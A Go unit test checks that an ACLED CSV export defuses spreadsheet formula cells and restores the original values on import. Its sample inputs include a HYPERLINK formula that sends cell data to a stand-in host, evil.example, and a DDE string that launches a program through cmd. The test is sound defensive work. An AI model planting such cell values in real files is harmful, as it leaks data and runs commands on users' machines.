package transfer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestACLEDExportNeutralisesFormulas: the ACLED export (command line and
// /export/acled.csv) writes no cell a spreadsheet would run, and importing
// it gives back the values as they were.
func TestACLEDExportNeutralisesFormulas(t *testing.T) {
	_, b := readSample(t)
	evil := map[string]string{
		"notes":    `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"location": "+cmd|' /C calc'!A0",
		"actor1":   "@SUM(1+1)",
		"admin1":   "-2+3",
		"tags":     "'=quoted",
	}
	inc := b.Incidents[0]
	inc.Description = evil["notes"]
	b.Places[inc.PlaceID-1].Name = evil["location"]
	b.Places[inc.PlaceID-1].Admin1 = evil["admin1"]
	inc.External["actor1"] = evil["actor1"]
	inc.External["tags"] = evil["tags"]
	var out bytes.Buffer
	if err := WriteACLED(&out, b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s: formula cell %q", i, rows[0][j], cell)
			}
			if cell != "" && cell[0] == '-' && strings.ContainsAny(cell, "+=") {
				t.Errorf("row %d column %s: formula cell %q", i, rows[0][j], cell)
			}
		}
	}
	back, err := ReadACLED(bytes.NewReader(out.Bytes()), "export.csv", importTime)
	if err != nil {
		t.Fatal(err)
	}
	got := back.Incidents[0]
	if got.Description != evil["notes"] || got.External["actor1"] != evil["actor1"] || got.External["tags"] != evil["tags"] {
		t.Errorf("round trip: notes %q actor1 %q tags %q", got.Description, got.External["actor1"], got.External["tags"])
	}
	p := back.Places[got.PlaceID-1]
	if p.Name != evil["location"] || p.Admin1 != evil["admin1"] {
		t.Errorf("round trip place: %q %q", p.Name, p.Admin1)
	}
	if *p.Latitude != -15.4997 {
		t.Errorf("a negative latitude changed: %v", *p.Latitude)
	}
}
